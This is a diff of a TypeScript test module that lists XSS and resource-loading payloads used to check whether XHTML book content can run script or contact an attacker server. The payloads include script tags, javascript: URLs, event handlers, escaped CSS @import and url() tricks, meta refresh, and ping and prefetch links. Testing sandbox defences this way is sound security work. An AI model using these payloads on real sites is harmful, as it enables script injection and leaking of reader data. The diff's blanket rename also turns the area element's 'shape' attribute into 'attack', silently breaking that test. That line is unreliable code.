@@ -1,28 +1,28 @@
 import type { EngineKind } from './page.ts';
 
 /**
- * URLs and code for building an attack: the stranger's server, and scripts whose execution is
+ * URLs and code for building an attack: the attacker's server, and scripts whose execution is
  * observable.
  */
-export interface Means {
-  /** URL on the stranger's server that identifies the attack. */
-  stranger: string;
-  /** A port of the stranger that only resource hints connect to. */
-  hinted: string;
+export interface Payload {
+  /** URL on the attacker's server that identifies the attack. */
+  attackerUrl: string;
+  /** A port of the attacker that only resource hints connect to. */
+  hintedUrl: string;
   /** A host name that only resource hints resolve. */
   unknownHost: string;
   /**
-   * JavaScript without characters that XML escapes; marks the top window and calls the stranger.
+   * JavaScript without characters that XML escapes; marks the top window and calls the attacker.
    */
   act: string;
-  /** The same without a top window: only calls the stranger. */
+  /** The same without a top window: only calls the attacker. */
   call: string;
 }
 
 /** One attack that a book can attempt. */
-export interface Shape {
+export interface Attack {
   name: string;
-  markup: (means: Means) => string;
+  markup: (payload: Payload) => string;
   /** Position of the markup; default: body. */
   at?: 'prolog' | 'head' | 'body';
   /** Triggered by a click on its first element with `data-click`. */
@@ -30,11 +30,15 @@ export interface Shape {
   /** Affects the whole window or is held up by others, so it is tested on a page of its own. */
   isAlone?: true;
   /** Engines in which the control run does not expect an effect, with the reason. */
-  unknownTo?: Partial<Record<EngineKind['name'], string>>;
+  ineffectiveIn?: Partial<Record<EngineKind['name'], string>>;
 }
 
 /** Files beside the text, by name. */
-export const hostileFiles = ({ act, call, stranger }: Means): Record<string, [string, string]> => ({
+export const hostileFiles = ({
+  act,
+  call,
+  attackerUrl,
+}: Payload): Record<string, [string, string]> => ({
   'own.js': ['text/javascript', act],
   'module.js': ['text/javascript', act],
   'worker.js': ['text/javascript', call],
@@ -43,7 +47,7 @@ export const hostileFiles = ({ act, call, stranger }: Means): Record<string, [st
     'image/svg+xml',
     `<svg xmlns="http://www.w3.org/2000/svg"><script>${act}</script></svg>`,
   ],
-  'style.css': ['text/css', `@import "${stranger}";`],
+  'style.css': ['text/css', `@import "${attackerUrl}";`],
   'dot.svg': ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'],
   'sheet.xsl': [
     'application/xslt+xml',
@@ -59,21 +63,24 @@ const escaped = (text: string) =>
   text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
 const data = (type: string, text: string) => `data:${type},${encodeURIComponent(text)}`;
 
-const scripts: Shape[] = [
+const scripts: Attack[] = [
   { name: 'inline', markup: ({ act }) => `<script>${act}</script>` },
   { name: 'in-head', at: 'head', markup: ({ act }) => `<script>${act}</script>` },
   { name: 'own-file', markup: () => '<script src="own.js"></script>' },
-  { name: 'of-a-stranger', markup: ({ stranger }) => `<script src="${stranger}"></script>` },
+  {
+    name: 'of-the-attacker',
+    markup: ({ attackerUrl }) => `<script src="${attackerUrl}"></script>`,
+  },
   {
     name: 'module',
     markup: ({ act }) => `<script type="module" async="">${act}</script>`,
-    unknownTo: { WebKit: 'WebKit runs no modules in XHTML' },
+    ineffectiveIn: { WebKit: 'WebKit runs no modules in XHTML' },
   },
   {
     name: 'import-map',
     markup: () =>
       '<script type="importmap">{"imports":{"evil":"./module.js"}}</script><script type="module" async="">import "evil";</script>',
-    unknownTo: { WebKit: 'WebKit runs no modules in XHTML' },
+    ineffectiveIn: { WebKit: 'WebKit runs no modules in XHTML' },
   },
   { name: 'svg-script', markup: ({ act }) => svg(`<script>${act}</script>`) },
   { name: 'data-script', markup: ({ act }) => `<script src="${data('text/javascript', act)}"/>` },
@@ -100,16 +107,16 @@ const scripts: Shape[] = [
   {
     name: 'speculation-rules',
     isAlone: true,
-    markup: ({ stranger }) =>
-      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${stranger}"],"eagerness":"immediate"}]}</script>`,
-    unknownTo: {
+    markup: ({ attackerUrl }) =>
+      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${attackerUrl}"],"eagerness":"immediate"}]}</script>`,
+    ineffectiveIn: {
       Firefox: 'Firefox has no speculation rules',
       WebKit: 'WebKit has no speculation rules',
     },
   },
 ];
 
-const handlers: Shape[] = [
+const handlers: Attack[] = [
   { name: 'onload', markup: ({ act }) => `<img src="dot.svg" alt="" onload="${act}"/>` },
   { name: 'onerror', markup: ({ act }) => `<img src="none.png" alt="" onerror="${act}"/>` },
   {
@@ -140,7 +147,7 @@ const handlers: Shape[] = [
   },
 ];
 
-const scriptAddresses: Shape[] = [
+const scriptAddresses: Attack[] = [
   {
     name: 'link',
     isClicked: true,
@@ -150,7 +157,7 @@ const scriptAddresses: Shape[] = [
     name: 'area',
     isClicked: true,
     markup: ({ act }) =>
-      `<img src="dot.svg" usemap="#m" alt=""/><map name="m"><area data-click="" shape="default" href="javascript:${act}" alt=""/></map>`,
+      `<img src="dot.svg" usemap="#m" alt=""/><map name="m"><area data-click="" attack="default" href="javascript:${act}" alt=""/></map>`,
   },
   {
     name: 'svg-link',
@@ -168,7 +175,7 @@ const scriptAddresses: Shape[] = [
     isClicked: true,
     markup: ({ act }) =>
       `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext data-click="" href="javascript:${act}">x</mtext></math>`,
-    unknownTo: { Chromium: 'Chromium has no links in MathML' },
+    ineffectiveIn: { Chromium: 'Chromium has no links in MathML' },
   },
   { name: 'frame-address', markup: ({ act }) => `<iframe src="javascript:${act}"></iframe>` },
   {
@@ -184,9 +191,12 @@ const scriptAddresses: Shape[] = [
   },
 ];
 
-const documents: Shape[] = [
+const documents: Attack[] = [
   { name: 'frame', markup: () => '<iframe src="page.xhtml"></iframe>' },
-  { name: 'frame-of-a-stranger', markup: ({ stranger }) => `<iframe src="${stranger}"></iframe>` },
+  {
+    name: 'frame-of-the-attacker',
+    markup: ({ attackerUrl }) => `<iframe src="${attackerUrl}"></iframe>`,
+  },
   {
     name: 'srcdoc',
     markup: ({ act }) => `<iframe srcdoc="${escaped(`<script>${act}</script>`)}"></iframe>`,
@@ -198,8 +208,8 @@ const documents: Shape[] = [
   },
   { name: 'object', markup: () => '<object type="image/svg+xml" data="drawing.svg"></object>' },
   {
-    name: 'object-of-a-stranger',
-    markup: ({ stranger }) => `<object data="${stranger}"></object>`,
+    name: 'object-of-the-attacker',
+    markup: ({ attackerUrl }) => `<object data="${attackerUrl}"></object>`,
   },
   { name: 'embed', markup: () => '<embed type="image/svg+xml" src="drawing.svg"/>' },
   {
@@ -211,120 +221,135 @@ const documents: Shape[] = [
   {
     name: 'refresh',
     at: 'head',
-    markup: ({ stranger }) => `<meta http-equiv="refresh" content="0;url=${stranger}"/>`,
+    markup: ({ attackerUrl }) => `<meta http-equiv="refresh" content="0;url=${attackerUrl}"/>`,
   },
   {
     name: 'base',
     at: 'head',
-    markup: ({ stranger }) =>
-      `<base href="${stranger}/"/><link rel="stylesheet" href="below.css"/>`,
+    markup: ({ attackerUrl }) =>
+      `<base href="${attackerUrl}/"/><link rel="stylesheet" href="below.css"/>`,
   },
   {
     name: 'form',
     isClicked: true,
-    markup: ({ stranger }) => `<form action="${stranger}"><button data-click="">b</button></form>`,
+    markup: ({ attackerUrl }) =>
+      `<form action="${attackerUrl}"><button data-click="">b</button></form>`,
   },
   {
     name: 'link-on-top',
     isClicked: true,
     isAlone: true,
-    markup: ({ stranger }) => `<a data-click="" target="_top" href="${stranger}">a</a>`,
+    markup: ({ attackerUrl }) => `<a data-click="" target="_top" href="${attackerUrl}">a</a>`,
   },
   {
     name: 'link-away',
     isClicked: true,
-    markup: ({ stranger }) => `<a data-click="" href="${stranger}">a</a>`,
+    markup: ({ attackerUrl }) => `<a data-click="" href="${attackerUrl}">a</a>`,
   },
 ];
 
-const css = (name: string, text: (means: Means) => string): Shape => ({
+const css = (name: string, text: (payload: Payload) => string): Attack => ({
   name: `css-${name}`,
-  markup: (means) => `<style>${text(means)}</style><p class="${name}">css</p>`,
+  markup: (payload) => `<style>${text(payload)}</style><p class="${name}">css</p>`,
 });
 
-const loads: Shape[] = [
+const loads: Attack[] = [
   {
     name: 'sheet',
     at: 'head',
-    markup: ({ stranger }) => `<link rel="stylesheet" href="${stranger}"/>`,
+    markup: ({ attackerUrl }) => `<link rel="stylesheet" href="${attackerUrl}"/>`,
   },
   {
     name: 'sheet-of-prolog',
     at: 'prolog',
-    markup: ({ stranger }) => `<?xml-stylesheet type="text/css" href="${stranger}"?>`,
+    markup: ({ attackerUrl }) => `<?xml-stylesheet type="text/css" href="${attackerUrl}"?>`,
   },
   {
     name: 'sheet-that-imports',
     at: 'head',
     markup: () => '<link rel="stylesheet" href="style.css"/>',
   },
-  css('import', ({ stranger }) => `@import "${stranger}";`),
-  css('url', ({ stranger }) => `.url { background: url("${stranger}") }`),
-  css('image-set', ({ stranger }) => `.image-set { background: image-set("${stranger}" 1x) }`),
-  css('content', ({ stranger }) => `.content::before { content: url("${stranger}") }`),
+  css('import', ({ attackerUrl }) => `@import "${attackerUrl}";`),
+  css('url', ({ attackerUrl }) => `.url { background: url("${attackerUrl}") }`),
+  css(
+    'image-set',
+    ({ attackerUrl }) => `.image-set { background: image-set("${attackerUrl}" 1x) }`,
+  ),
+  css('content', ({ attackerUrl }) => `.content::before { content: url("${attackerUrl}") }`),
   css(
     'list',
-    ({ stranger }) => `.list { display: list-item; list-style-image: url("${stranger}") }`,
+    ({ attackerUrl }) => `.list { display: list-item; list-style-image: url("${attackerUrl}") }`,
   ),
-  css('mask', ({ stranger }) => `.mask { mask-image: url("${stranger}") }`),
+  css('mask', ({ attackerUrl }) => `.mask { mask-image: url("${attackerUrl}") }`),
   css(
     'font',
-    ({ stranger }) =>
-      `@font-face { font-family: evil; src: url("${stranger}") } .font { font-family: evil }`,
+    ({ attackerUrl }) =>
+      `@font-face { font-family: evil; src: url("${attackerUrl}") } .font { font-family: evil }`,
   ),
-  css('import-escaped', ({ stranger }) => `@\\69mport/**/url( ${stranger} );`),
-  css('url-escaped', ({ stranger }) => `.url-escaped { background: \\75 rl("${stranger}") }`),
-  css('unclosed', ({ stranger }) => `.unclosed { background: url("${stranger}`),
+  css('import-escaped', ({ attackerUrl }) => `@\\69mport/**/url( ${attackerUrl} );`),
+  css('url-escaped', ({ attackerUrl }) => `.url-escaped { background: \\75 rl("${attackerUrl}") }`),
+  css('unclosed', ({ attackerUrl }) => `.unclosed { background: url("${attackerUrl}`),
   css(
     'property',
-    ({ stranger }) => `.property { --a: "${stranger}"; background: image-set(var(--a) 1x) }`,
+    ({ attackerUrl }) => `.property { --a: "${attackerUrl}"; background: image-set(var(--a) 1x) }`,
   ),
   {
     name: 'svg-attribute',
-    markup: ({ stranger }) => svg(`<rect width="9" height="9" mask="url(${stranger}#a)"/>`),
+    markup: ({ attackerUrl }) => svg(`<rect width="9" height="9" mask="url(${attackerUrl}#a)"/>`),
   },
   {
     name: 'svg-animated',
-    markup: ({ stranger }) =>
-      svg(`<rect width="9" height="9"><set attributeName="mask" to="url(${stranger}#a)"/></rect>`),
+    markup: ({ attackerUrl }) =>
+      svg(
+        `<rect width="9" height="9"><set attributeName="mask" to="url(${attackerUrl}#a)"/></rect>`,
+      ),
   },
   {
     name: 'style-attribute',
-    markup: ({ stranger }) => `<p style="background: url('${stranger}')">p</p>`,
+    markup: ({ attackerUrl }) => `<p style="background: url('${attackerUrl}')">p</p>`,
   },
-  { name: 'picture', markup: ({ stranger }) => `<img src="${stranger}" alt=""/>` },
-  { name: 'picture-set', markup: ({ stranger }) => `<img srcset="${stranger} 1x" alt=""/>` },
+  { name: 'picture', markup: ({ attackerUrl }) => `<img src="${attackerUrl}" alt=""/>` },
+  { name: 'picture-set', markup: ({ attackerUrl }) => `<img srcset="${attackerUrl} 1x" alt=""/>` },
   {
     name: 'svg-image',
-    markup: ({ stranger }) => svg(`<image href="${stranger}" width="9" height="9"/>`),
+    markup: ({ attackerUrl }) => svg(`<image href="${attackerUrl}" width="9" height="9"/>`),
   },
-  { name: 'poster', markup: ({ stranger }) => `<video poster="${stranger}"></video>` },
-  { name: 'video', markup: ({ stranger }) => `<video preload="auto" src="${stranger}"></video>` },
-  { name: 'audio', markup: ({ stranger }) => `<audio preload="auto" src="${stranger}"></audio>` },
-  { name: 'input', markup: ({ stranger }) => `<input type="image" src="${stranger}" alt=""/>` },
+  { name: 'poster', markup: ({ attackerUrl }) => `<video poster="${attackerUrl}"></video>` },
+  {
+    name: 'video',
+    markup: ({ attackerUrl }) => `<video preload="auto" src="${attackerUrl}"></video>`,
+  },
+  {
+    name: 'audio',
+    markup: ({ attackerUrl }) => `<audio preload="auto" src="${attackerUrl}"></audio>`,
+  },
+  {
+    name: 'input',
+    markup: ({ attackerUrl }) => `<input type="image" src="${attackerUrl}" alt=""/>`,
+  },
   {
     name: 'table-background',
-    markup: ({ stranger }) => `<table background="${stranger}"><tr><td>t</td></tr></table>`,
+    markup: ({ attackerUrl }) => `<table background="${attackerUrl}"><tr><td>t</td></tr></table>`,
   },
   {
     name: 'ping',
     isClicked: true,
     // Firefox sends pings after other requests of the page, and drops those that wait 10 s.
     isAlone: true,
-    markup: ({ stranger }) => `<a data-click="" href="page.xhtml" ping="${stranger}">a</a>`,
+    markup: ({ attackerUrl }) => `<a data-click="" href="page.xhtml" ping="${attackerUrl}">a</a>`,
   },
 ];
 
-const hint = (rel: string, more = ''): Shape => ({
+const hint = (rel: string, more = ''): Attack => ({
   name: rel,
   at: 'head',
-  markup: ({ stranger }) => `<link rel="${rel}" ${more} href="${stranger}"/>`,
+  markup: ({ attackerUrl }) => `<link rel="${rel}" ${more} href="${attackerUrl}"/>`,
 });
 
-const hints: Shape[] = [
+const hints: Attack[] = [
   {
     ...hint('prefetch'),
-    unknownTo: {
+    ineffectiveIn: {
       Firefox: 'Firefox fetches ahead only while it has nothing else to do',
       WebKit: 'WebKit has no prefetch unless told to',
     },
@@ -334,12 +359,12 @@ const hints: Shape[] = [
   {
     name: 'preconnect',
     at: 'head',
-    markup: ({ hinted }) => `<link rel="preconnect" href="${hinted}"/>`,
-    unknownTo: { Chromium: 'Chromium without a window takes no hints' },
+    markup: ({ hintedUrl }) => `<link rel="preconnect" href="${hintedUrl}"/>`,
+    ineffectiveIn: { Chromium: 'Chromium without a window takes no hints' },
   },
 ];
 
-export const shapes: readonly Shape[] = [
+export const attacks: readonly Attack[] = [
   ...scripts,
   ...handlers,
   ...scriptAddresses,
@@ -373,7 +398,7 @@ const silentAddresses = [
  * attributes, and DNS prefetch. They are part of every hostile text in case a later engine runs
  * them.
  */
-export const silentMarkup = ({ act, unknownHost }: Means): Record<'head' | 'body', string> => ({
+export const silentMarkup = ({ act, unknownHost }: Payload): Record<'head' | 'body', string> => ({
   head: `<link rel="dns-prefetch" href="http://${unknownHost}/"/>`,
   body: [
     ...silentAddresses.map(
